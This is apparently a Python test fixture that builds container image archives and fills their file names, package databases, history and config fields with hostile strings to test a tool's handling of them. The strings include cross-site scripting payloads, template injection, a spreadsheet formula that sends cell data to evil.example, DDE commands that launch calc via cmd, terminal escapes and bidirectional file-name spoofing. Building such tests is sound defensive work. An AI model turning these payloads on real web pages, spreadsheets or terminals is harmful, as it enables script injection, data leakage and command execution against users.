"""Images with a text that means something to browsers, tables, terminals or databases, wherever a text has room."""

from functools import partial

from tests.archives import Dir, Entry, Hardlink, Image, Symlink, dumps, image, layer, oci_layout, tar
from tests.hostile.ordinary import Make

TEXTS = {
    "markup": "<evil-tag onclick=alert(1)><img src=x onerror=alert(1)>",
    "script": "</script></style></textarea><script>alert(1)</script>",
    "attributes": "\"' onmouseover=alert(1) autofocus onfocus='alert(1)' x=\"",
    "addresses": "javascript:alert(1)//data:text/html,<script>alert(1)</script>",
    "templates": "{{ 7 * 7 }}{% debug %}${7*7}<%= 7 %>",
    "formulas": '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "commands": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "lines": "one\r\ntwo\n=three\ttab\x1b[31mred\x07\u2028line",
    "directions": "gnp.\u202eexe.\u2066x\u2069\u200f",
    "nul": "before\0after",
    "half-characters": "lone \ud800 surrogate \udcff",
    "length": "long-" + "\u0416" * 1_900,
    "combining": "Z" + "\u0335\u0321\u0489" * 300,
}


def texts_image(kind: str) -> Image:
    """An image with the text of the kind wherever there is room for a text."""
    text = TEXTS[kind]
    name = text.encode(errors="surrogatepass").replace(b"\0", b"\\0")
    part = name.replace(b"/", b"_")[:3_000]
    status = b"Package: " + part + b"\nVersion: " + part + b"\nStatus: install ok installed\nSource: " + part + b"\n\n"
    npm = {"name": text, "version": text, "license": text}
    entries: list[tuple[str | bytes, Entry | bytes]] = [
        (part, b"named"),
        (b"=" + part, b"named"),
        (b"in/" + part + b"/file", name),
        (b"in/" + part, Dir(xattrs={"user.x": name})),
        (b"link", Symlink(target=name[:3_000])),
        (b"hard", Hardlink(target=part)),
        (b"texts/" + part[:200] + b".html", b"<script>alert(1)</script>\n" + name),
        (b"texts/page.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        (b"var/lib/dpkg/status", status),
        (b"lib/apk/db/installed", b"P:" + part + b"\nV:" + part + b"\nL:" + part + b"\n\n"),
        (b"var/lib/rpm/rpmdb.sqlite", b"SQLite format 3\0" + bytes(5_000)),
        (b"usr/lib/python3/dist-packages/x-1.dist-info/METADATA", b"Name: " + part + b"\nVersion: " + part + b"\n"),
        (b"usr/lib/node_modules/x/package.json", dumps(npm)),
    ]
    step = {"created_by": f"RUN {text}", "comment": text, "author": text, "created": text}
    built = image(
        [
            layer({b"gone/" + part: b"gone" * 3_000, "kept": b"1"}),
            layer([*entries, (b"gone/.wh." + part[:240], b"")]),
        ],
        tags=["texts:1"],
        history=[step, {**step, "empty_layer": True}, step | {"created_by": text}],
        platform="linux/amd64",
        config={
            "author": text,
            "created": text,
            "os": text[:90],
            "architecture": text[:90],
            "docker_version": text,
            "config": {
                "Env": [f"A={text}", text],
                "Cmd": [text],
                "Entrypoint": [text, text],
                "User": text,
                "WorkingDir": text,
                "Labels": {
                    text: text,
                    "org.opencontainers.image.source": text,
                    "org.opencontainers.image.base.name": text,
                },
                "ExposedPorts": {text: {}},
                "Volumes": {text: {}},
                "StopSignal": text,
                "Healthcheck": {"Test": ["CMD", text]},
                "OnBuild": [text],
                "Shell": [text],
            },
        },
        annotations={text: text, "org.opencontainers.image.title": text},
    )
    return Image(built.layers, built.config, ("texts:1", f"{kind}:ok", text, f"x/{text}:{text}"), built.annotations)


def texts(kind: str) -> bytes:
    """The image of that kind in an archive."""
    members = oci_layout(texts_image(kind))
    members[TEXTS[kind].replace("\0", "")[:90].encode(errors="ignore").decode()] = b"a member"
    return tar(members)


TEXTS_ARCHIVES: dict[str, Make] = {f"texts-of-{kind}": partial(texts, kind) for kind in TEXTS}
